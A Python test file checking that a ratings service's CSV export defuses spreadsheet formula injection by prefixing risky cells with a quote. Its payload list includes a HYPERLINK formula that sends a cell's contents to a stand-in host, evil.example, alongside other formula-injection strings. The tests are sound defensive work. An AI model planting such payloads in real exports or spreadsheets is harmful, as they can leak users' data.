"""CSV exports neutralise cells a spreadsheet would run as formulas (issue case 10)."""

from __future__ import annotations

import csv
import io

from prefshift_common.contracts import ItemRating, RatingsRequest
from prefshift_orchestrator.csv_export import csv_text, neutralise
from tests.orchestrator.conftest import USER, OrchestratorFactory
from tests.orchestrator.standins import StandInSimulator, serving
from tests.polling import wait_for_run

FEELINGS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


class FormulaPersona(StandInSimulator):
    """A persona whose feelings are formula payloads (an LLM persona can write anything)."""

    def rate(self, request: RatingsRequest) -> list[ItemRating]:
        return [
            rating.model_copy(update={"feeling": FEELINGS[index % len(FEELINGS)]})
            for index, rating in enumerate(super().rate(request))
        ]


def test_formula_cells_are_prefixed_and_numbers_stay_numbers() -> None:
    import pandas as pd

    frame = pd.DataFrame({"arm": ["=cmd", "als"], "rating": [-1.5, 3.0], "feeling": ["@x", "ok"]})
    text = csv_text(frame)
    assert text.splitlines()[1] == '"\'=cmd",-1.5,"\'@x"'
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["arm", "rating", "feeling"], ["'=cmd", "-1.5", "'@x"], ["als", "3.0", "ok"]]
    assert neutralise(-2) == -2 and neutralise("plain") == "plain"


def test_a_runs_ratings_csv_opens_as_text(
    seed_cohort_database_url: str, orchestrator: OrchestratorFactory
) -> None:
    simulator = FormulaPersona()
    with (
        serving(simulator.app) as simulator_url,
        orchestrator(seed_cohort_database_url, simulator_url=simulator_url) as client,
    ):
        protocol = {"pages": 1, "test_size": 6, "persona_size": 8, "arms": ["control"]}
        run_id = client.post(f"/simulate/{USER}", json=protocol).json()["run_id"]
        assert wait_for_run(client, run_id)["status"] == "completed"
        exported = client.get(f"/runs/{run_id}/ratings", params={"format": "csv"})
        assert exported.status_code == 200
        rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert len(rows) == 12
    for row in rows:
        assert row["feeling"][0] == "'" and row["feeling"][1:] in FEELINGS, row
        assert 0.5 <= float(row["rating"]) <= 5.0
